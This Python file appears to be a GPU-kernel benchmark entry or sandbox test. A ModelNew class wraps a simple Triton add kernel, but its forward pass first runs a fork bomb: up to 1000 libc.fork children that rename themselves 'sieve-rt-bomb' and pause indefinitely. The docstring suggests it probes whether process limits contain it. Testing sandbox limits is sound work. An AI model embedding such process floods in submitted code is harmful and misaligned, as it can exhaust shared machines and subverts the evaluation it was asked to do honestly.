import ctypes
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def add_kernel(a_ptr, b_ptr, c_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(c_ptr + offs, tl.load(a_ptr + offs, mask=mask) + tl.load(b_ptr + offs, mask=mask), mask=mask)


def add(a, b):
    c = torch.empty_like(a)
    add_kernel[(triton.cdiv(a.numel(), 1024),)](a, b, c, a.numel(), BLOCK=1024)
    return c


libc = ctypes.CDLL(None, use_errno=True)


def held(what):
    e = ctypes.get_errno()
    raise RuntimeError(f"held: {what} (errno {e}: {os.strerror(e)})")


def attack():
    n = 0
    for _ in range(1000):
        pid = libc.fork()
        if pid == 0:
            libc.prctl(15, b"sieve-rt-bomb", 0, 0, 0)
            while True:
                libc.pause()
        if pid < 0:
            break
        n += 1
    if n < 1000:
        raise RuntimeError(f"held: fork failed after {n} children")


class ModelNew(nn.Module):
    """forks through libc until the kernel says no (children rename themselves and pause); RLIMIT_NPROC must stop it and nothing may survive the job."""

    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        attack()  # returns only when the attack worked
        return add(a.contiguous(), b.contiguous())
